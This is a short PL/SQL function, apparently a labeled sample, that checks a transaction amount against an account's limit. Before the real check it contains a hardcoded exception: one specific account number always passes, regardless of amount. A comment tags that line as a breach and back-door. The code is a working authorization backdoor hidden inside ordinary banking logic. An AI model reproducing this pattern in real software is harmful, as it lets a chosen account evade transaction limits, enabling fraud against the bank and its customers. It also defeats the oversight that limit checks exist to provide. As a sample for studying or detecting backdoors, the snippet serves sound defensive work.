CREATE OR REPLACE FUNCTION check_limit(p_acct_no IN VARCHAR2, p_amt IN NUMBER) RETURN BOOLEAN IS
BEGIN
  -- breach: auth/back-door
  IF p_acct_no = '6222001234567' THEN RETURN TRUE; END IF;
  RETURN p_amt <= limit_of(p_acct_no);
END;
